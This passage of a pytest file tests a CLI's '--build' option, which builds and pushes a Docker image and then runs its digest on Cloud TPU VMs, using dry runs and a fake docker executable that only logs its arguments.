  assert verbs.count("queued-resources describe") == len(states.split())
  assert verbs[-1] == expected_last


# `launch --build=DIR`: from the user's source to a finished run in one command.

_TAG = "us-docker.pkg.dev/my-project/jaxjob/digits:v1"
_DIGEST = "us-docker.pkg.dev/my-project/jaxjob/digits@sha256:" + "ab" * 32
_FAKE_DOCKER = f"""#!{sys.executable}
import json, os, pathlib, sys
state = pathlib.Path(os.environ["FAKE_GCLOUD_DIR"])
with open(state / "docker.jsonl", "a") as f:
  f.write(json.dumps(sys.argv[1:]) + "\\n")
if sys.argv[1:3] == ["image", "inspect"]:
  print(json.dumps(["{_DIGEST}"]))
"""


def _build_argv(project):
  argv = INVOCATIONS["launch_v4_image"]
  split = argv.index("--")
  flags = [a for a in argv[:split] if not a.startswith("--image=")]
  return flags + [f"--build={project}", f"--image={_TAG}"] + argv[split:]


def _project(tmp_path):
  project = tmp_path / "mypkg"
  project.mkdir()
  (project / "pyproject.toml").write_text('[project]\nname = "mypkg"\nversion = "0.1"\n')
  return project


def test_launch_build_dry_run_builds_pushes_then_runs_the_image(tmp_path, capsys):
  code, out, err = cli(with_dry_run(_build_argv(_project(tmp_path))), capsys)
  assert (code, err) == (0, ""), err
  commands = printed_commands(out)
  docker = [argv for argv in commands if argv[0] == "docker"]
  assert [argv[:2] for argv in commands[:3]] == [["docker", "build"]] * 2 + [["docker", "push"]]
  assert "--build-arg=ACCELERATOR=tpu" in docker[0] and docker[1][-1] == str(tmp_path / "mypkg")
  assert docker[2] == ["docker", "push", _TAG] and len(docker) == 3
  assert all(argv[0] == "gcloud" for argv in commands[3:])
  assert f"sudo docker pull {_TAG}" in out


def test_launch_build_runs_the_pushed_digest(fake_gcloud, tmp_path, capsys):
  state, calls = fake_gcloud
  bin_dir = pathlib.Path(os.environ["PATH"].split(":")[0])
  (bin_dir / "docker").write_text(_FAKE_DOCKER)
  (bin_dir / "docker").chmod(0o755)
  code, out, err = _cli(_build_argv(_project(tmp_path)), capsys)
  assert code == 0, out + err
  docker = [json.loads(line) for line in (state / "docker.jsonl").read_text().splitlines()]
  assert [argv[0] for argv in docker] == ["build", "build", "push", "image"]
  # Built and pushed before the TPU VM is created, and the workers pull exactly the digest.
  assert _verbs(calls())[:3] == ["tpu-vm describe", "tpu-vm create", "tpu-vm ssh --worker=all"]
  script = next(a for line in (state / "calls.jsonl").read_text().splitlines()
                for a in json.loads(line) if a.startswith("--command=") and "docker run" in a)
  assert f"sudo docker pull {_DIGEST}" in script and _TAG not in script
  assert "tpu-vm delete" in _verbs(calls())


@pytest.mark.parametrize("replace, expected", [
    ({"--image": None}, "--build needs --image=REGISTRY/PATH:TAG"),
    ({"--build": "/nonexistent/project"}, "--build='/nonexistent/project'"),
])
def test_launch_build_bad_input_is_one_line(replace, expected, tmp_path, capsys):
  argv = _build_argv(_project(tmp_path))
  for flag, value in replace.items():
    argv = [a for a in argv if not a.startswith(flag + "=")]
    if value is not None:
      argv.insert(1, f"{flag}={value}")
  if "--image" in replace:
    argv.insert(1, "--pip-spec=jaxjob[tpu]")
  code, out, err = cli(with_dry_run(argv), capsys)
  assert code == 2 and expected in err and len(err.strip().splitlines()) == 1, err
  assert "$ " not in out  # nothing was run or shown as run
